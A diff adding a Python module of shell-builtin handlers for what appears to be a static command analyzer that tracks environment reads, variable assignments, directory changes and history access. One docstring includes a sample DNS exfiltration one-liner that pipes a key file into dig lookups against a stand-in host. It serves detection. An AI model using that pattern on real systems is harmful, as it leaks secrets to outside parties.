@@ -1,0 +1,117 @@
+"""Shell command handlers for the shell's own commands and name calculators: environment
+dumps (printenv, export/declare/set with no names), echo/printf, read/mapfile, cd/pushd/popd,
+pwd/basename/dirname/realpath, which/type, history. Handler signature as in
+:mod:`pipeline.analysis.shell.cmd_text`.
+"""
+
+from __future__ import annotations
+
+import posixpath
+import re
+
+from pipeline.analysis.shell.args import parse_opts
+from pipeline.analysis.shell.ctx import Ctx
+from pipeline.analysis.shell.tables import OPTIONS
+
+
+def h_env_dump(ctx: Ctx, args: list[str], name: str) -> None:
+    """printenv [NAME], export/declare/set with no names: environment reads."""
+    names = [ctx.text(a) for a in args if not ctx.text(a).startswith(("-", "+"))]
+    if name == "printenv":
+        res = tuple(f"env:{n}" for n in names) or ("env:",)
+        for r in res:
+            ctx.read(r)
+        ctx.stdout_resources(res)
+        return
+    if (name == "set" and args) or any("f" in ctx.text(a).lstrip("-+").lower() for a in args if ctx.text(a)[:1] in "-+"):
+        return
+    if not names:
+        ctx.read("env:")
+        ctx.stdout_resources(("env:",))
+        return
+    for a in args:
+        m = re.match(r"^([A-Za-z_]\w*)=(.*)$", a, re.S)
+        if m:
+            ctx.assign(m.group(1), m.group(2))
+
+
+def h_echo(ctx: Ctx, args: list[str], name: str) -> None:
+    """echo/printf: no resources; the text is a literal on stdout (``printf -v`` assigns)."""
+    words = list(args)
+    if name == "echo":
+        while words and re.fullmatch(r"-[neE]+", ctx.text(words[0])):
+            words.pop(0)
+    elif words and ctx.text(words[0]) == "-v" and len(words) > 1:
+        ctx.assign(ctx.text(words[1]), None)
+        return
+    ctx.stdout_literal(" ".join(w for w in words), items=words)
+
+
+def h_read(ctx: Ctx, args: list[str], name: str) -> None:
+    """read/mapfile VAR: the variables get unknown values, read from stdin (`cat key | while
+    read l; do dig $l.x.example; done` sends the key)."""
+    _, pos = parse_opts(args, *OPTIONS["read"])
+    # a listing (find, grep -l: stdin items) gives names, not what the files hold
+    piped = ctx.stdin.resources if not ctx.stdin.items else ()
+    came_from = piped + tuple(ctx.text(t) for op, t in ctx.redirs if op == "<")
+    for p in pos:
+        ctx.assign(ctx.text(p), None, came_from)
+
+
+def h_cd(ctx: Ctx, args: list[str], name: str) -> None:
+    """cd/pushd DIR: later relative paths of the command are under DIR too (Acc.cwd); a
+    computed folder (`cd $(mktemp -d)`), `cd -`, `popd`, or a `cd` in a subshell, pipeline,
+    function, conditional or loop body makes it unknown again. Also where the command
+    leaves its shell (Acc.move, for the session's later steps: sql/shell_folders.sql)."""
+    _, pos = parse_opts(args, "", ())
+    ctx.acc.track_here()  # names from here on may be elsewhere than where the command started
+    # in a subshell, pipeline, function or conditional the move may not hold afterwards
+    if ctx.scoped or name == "popd" or (pos and (ctx.dynamic(pos[0]) or ctx.text(pos[0]) == "-")):
+        ctx.acc.cwd, ctx.acc.lost = None, True
+        # the shell's own folder: back where it was (`cd -`) or unknown
+        ctx.acc.move("-" if not ctx.scoped and name == "cd" and pos and ctx.text(pos[0]) == "-" else None)
+        return
+    if name == "pushd" and not pos:
+        ctx.acc.move(None)  # swaps with the folder before: unknown here
+        return
+    target = ctx.text(pos[0]) if pos else "~"
+    ctx.acc.move(target)
+    base = ctx.acc.cwd
+    joined = target if target.startswith(("/", "~")) or base is None else posixpath.join(base, target)
+    # a relative first `cd` stays relative: where the command started is not known
+    ctx.acc.cwd = "~/" + posixpath.normpath(joined[2:]) if joined.startswith("~/") else posixpath.normpath(joined)
+
+
+def h_pathcalc(ctx: Ctx, args: list[str], name: str) -> None:
+    """pwd, basename, dirname, realpath, readlink: computed names, no resource."""
+    _, pos = parse_opts(args, *OPTIONS["pathcalc"])
+    if name == "pwd":
+        ctx.stdout_literal(".")
+    elif pos and not any(ctx.dynamic(p) for p in pos):
+        t = ctx.text(pos[0])
+        if name == "basename":
+            out = posixpath.basename(t.rstrip("/"))
+            if len(pos) > 1 and out.endswith(ctx.text(pos[1])):
+                out = out[: -len(ctx.text(pos[1]))]
+        elif name == "dirname":
+            out = posixpath.dirname(t.rstrip("/")) or "."
+        else:
+            out = t
+        ctx.stdout_literal(out)
+
+
+def h_lookup(ctx: Ctx, args: list[str], name: str) -> None:
+    """which X / type -P X (-p): print where program X is, so `$(which X) ARGS` runs X (as
+    `command -v X`, cmd_exec.h_wrapper); several names, `which -a`, or `type X` (a
+    sentence) print something else."""
+    opts, pos = parse_opts(args, "", ())
+    flags = {k for k, _ in opts}
+    if len(pos) != 1 or ctx.dynamic(pos[0]):
+        return
+    if (name == "which" and not flags) or (name == "type" and flags in ({"-P"}, {"-p"})):
+        ctx.stdout_literal(pos[0])
+
+
+def h_history(ctx: Ctx, args: list[str], name: str) -> None:
+    """history: prints the shell history file."""
+    ctx.read("~/.bash_history")
